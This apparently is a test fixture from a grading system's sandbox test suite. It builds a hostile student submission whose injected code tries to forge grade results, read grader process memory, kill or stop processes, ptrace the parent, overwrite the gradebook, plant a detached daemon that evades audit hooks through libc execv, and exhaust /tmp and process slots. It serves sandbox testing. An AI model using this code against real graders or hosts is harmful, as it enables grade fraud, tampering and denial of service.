"""A hostile student's code: every attack of issue 9 in one function, appended to a copy of
solutions/ch04.py so that ``GELU.forward`` runs it. It reports what worked in the exception it
raises (so the item fails either way, and the test reads the report from the results), and leaves
behind what a real attacker would: a detached daemon, sleepers, full /tmp and /dev/shm.

Every target is one the test created (the class folder, the gradebook, a listener, an ``outside``
folder) or a harmless probe file, so that a broken sandbox fails the test without harming the
machine or the shared install. ``CONFIG`` is filled in by the test.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]

ATTACK = r'''

def _redteam_attack(config):
    import ctypes, glob, os, signal, socket, sys, time
    found = []
    marker = config["marker"]

    def attempt(what, action):
        try:
            action()
            found.append(what)
        except Exception:
            pass

    # Result forging: the trusted processes, their memory and command lines, the run folders.
    me = os.getpid()
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (me, 1):
            continue
        try:
            cmd = open(f"/proc/{name}/cmdline", "rb").read()
        except OSError:
            continue
        if b"pytest" in cmd or b"grade-class" in cmd or b"grader.cli" in cmd:
            found.append(f"sees trusted process {name}")
            for part in cmd.split(b"\0"):
                if b"suites" in part and config["secret_suites"].encode() in part:
                    found.append("private suites path: " + part.decode())
            def read_mem(pid=name):
                with open(f"/proc/{pid}/mem", "rb") as fh:
                    fh.seek(0x400000)
                    fh.read(64)
            attempt(f"read the memory of {name}", read_mem)
            if b"grade-class" in cmd and config["class_dir"].encode() in cmd:
                attempt(f"stopped grade-class {name}", lambda pid=name: os.kill(int(pid), signal.SIGSTOP))
        elif b"grader.sandbox.child" in cmd and config["class_dir"].encode() in cmd:
            attempt(f"killed a neighbour's worker {name}", lambda pid=name: os.kill(int(pid), signal.SIGKILL))
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, os.getppid(), None, None) == 0:
        found.append("ptrace attached to the parent")
    forged = '{"payload": {"format": "forged", "checks": []}, "signature": "x"}'
    for folder in glob.glob("/tmp/llmgrade-run-*") + glob.glob(os.path.join(config["host_tmp"], "llmgrade-*")):
        def forge(folder=folder):
            with open(os.path.join(folder, "checks.json"), "w") as fh:
                fh.write(forged)
            with open(os.path.join(folder, "_pytest_shadow.py"), "w") as fh:
                fh.write("raise SystemExit")
        attempt("wrote into the trusted run folder " + folder, forge)

    # Bytecode and .pth injection, the gradebook, a neighbour's files, anything outside.
    def write(path):
        with open(path, "w") as fh:
            fh.write("# llmgrade red-team probe\n")
    for path in config["probe_files"]:
        attempt("wrote " + path, lambda path=path: write(path))
    def clobber_gradebook():
        with open(config["gradebook"], "r+b") as fh:
            fh.write(b"\0" * 4096)
    attempt("overwrote the gradebook", clobber_gradebook)
    attempt("read the private suite", lambda: found.append(open(config["secret_file"]).read()))

    # The network: a listener the test started on the host's loopback.
    def connect():
        socket.create_connection(("127.0.0.1", config["port"]), timeout=2).sendall(marker.encode())
    attempt("connected to the host's 127.0.0.1", connect)

    # Things left behind: a detached daemon that later rewrites the gradebook, sleepers, full tmpfs.
    daemon = ("import os, sys, time\n"
              "if os.fork(): os._exit(0)\n"
              "os.setsid()\n"
              "if os.fork(): os._exit(0)\n"
              "time.sleep(3)\n"
              "open(sys.argv[1], 'w').write('daemon was here')\n"
              "open(sys.argv[2], 'wb').write(b'not a database')\n")
    def launch(argv, executable):
        # The answer-key tripwire refuses (and reports) subprocess from graded code; an attacker who
        # knows forks and execs through libc instead, which no audit hook sees: the OS walls remain.
        if os.fork() == 0:
            try:
                os.setsid()
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                args = (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None)
                libc.execv(executable.encode(), args)
            finally:
                os._exit(127)
    launch([sys.executable, "-c", daemon, config["outside"] + "/daemon", config["gradebook"], marker],
           sys.executable)
    sleepers = 0
    try:
        for _ in range(300):
            launch([marker, "600"], "/bin/sleep")
            sleepers += 1
    except OSError:
        pass
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "fill"), "wb") as fh:
                while True:
                    fh.write(b"x" * (1 << 20))
        except OSError:
            pass
    raise RuntimeError("REDTEAM " + json.dumps(found) + " END")


_redteam_done = []


def _hostile_forward(self, x):
    if not _redteam_done:
        _redteam_done.append(True)
        _redteam_attack(CONFIG)
    raise RuntimeError("REDTEAM [] END")


GELU.forward = _hostile_forward
'''


def hostile_submission(target: Path, config: dict[str, Any]) -> Path:
    """solutions/ch03.py and ch04.py, with ``GELU.forward`` replaced by the attack."""
    target.mkdir(parents=True)
    shutil.copy(ROOT / "solutions" / "ch03.py", target / "ch03.py")
    source = (ROOT / "solutions" / "ch04.py").read_text("utf-8")
    (target / "ch04.py").write_text(
        source + "\nimport json\nCONFIG = " + json.dumps(config) + "\n" + ATTACK, "utf-8")
    return target


def honest_submission(target: Path) -> Path:
    target.mkdir(parents=True)
    for module in ("ch03.py", "ch04.py"):
        shutil.copy(ROOT / "solutions" / module, target / module)
    return target


def reported(message: str) -> list[str]:
    """What the attack says worked, from the failure message of ``ch04.GELU``."""
    start, end = message.find("REDTEAM "), message.find(" END")
    assert start >= 0 and end > start, f"the attack did not report: {message!r}"
    found: list[str] = json.loads(message[start + len("REDTEAM "):end])
    return found
